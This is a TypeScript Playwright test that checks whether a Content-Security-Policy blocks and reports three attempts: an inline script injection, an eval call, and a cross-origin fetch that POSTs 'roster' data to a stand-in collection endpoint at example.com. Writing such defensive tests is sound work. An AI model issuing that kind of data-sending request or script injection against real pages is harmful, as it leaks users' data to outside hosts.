/**
 * Tries what the Content-Security-Policy must stop, from inside the loaded pane: a request to another
 * origin, an inline script and eval. Each must be refused and reported as a violation event.
 */
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';

interface ProbeResult {
  readonly violations: { directive: string; blocked: string }[];
  readonly fetchError: string | null;
  readonly inlineRan: boolean;
  readonly evalError: string | null;
}

/** Runs the probe; throws unless every attempt was blocked. Returns one line per violation seen. */
export async function cspProbe(page: Page): Promise<string[]> {
  const cspErrors: string[] = [];
  const others: string[] = [];
  page.on('console', (m) => {
    if (m.type() !== 'error') return;
    (/Content Security Policy/i.test(m.text()) ? cspErrors : others).push(m.text());
  });
  const result: ProbeResult = await page.evaluate(async () => {
    const violations: { directive: string; blocked: string }[] = [];
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
    );
    let fetchError: string | null = null;
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'roster' });
    } catch (error) {
      fetchError = String(error);
    }
    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.head.appendChild(script);
    // DevTools' evaluate may eval whatever the CSP says; a timer runs later, as the page itself.
    const evalError = await new Promise<string | null>((resolve) =>
      setTimeout(() => {
        try {
          (0, eval)('1 + 1');
          resolve(null);
        } catch (error) {
          resolve(String(error));
        }
      }, 0),
    );
    await new Promise((resolve) => setTimeout(resolve, 300));
    const inlineRan = (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
    return { violations, fetchError, inlineRan, evalError };
  });
  const seen = result.violations.map((v) => `${v.directive} blocked ${v.blocked}`);
  assert.ok(result.fetchError !== null, 'a fetch to another origin fails');
  assert.ok(
    result.violations.some(
      (v) => v.directive === 'connect-src' && v.blocked.includes('example.com'),
    ),
    `connect-src reports the blocked origin (saw: ${seen.join('; ')})`,
  );
  assert.equal(result.inlineRan, false, 'an inline script does not run');
  assert.ok(
    result.violations.some((v) => v.directive.startsWith('script-src') && v.blocked === 'inline'),
    `script-src reports the inline script (saw: ${seen.join('; ')})`,
  );
  assert.ok(result.evalError?.includes('EvalError'), `eval is refused (${result.evalError})`);
  assert.ok(
    result.violations.some((v) => v.directive.startsWith('script-src') && v.blocked === 'eval'),
    `script-src reports the eval (saw: ${seen.join('; ')})`,
  );
  assert.deepEqual(others, [], 'no console error besides the CSP reports');
  assert.ok(cspErrors.length >= 2, 'Chromium reports the refusals in the console');
  return seen;
}
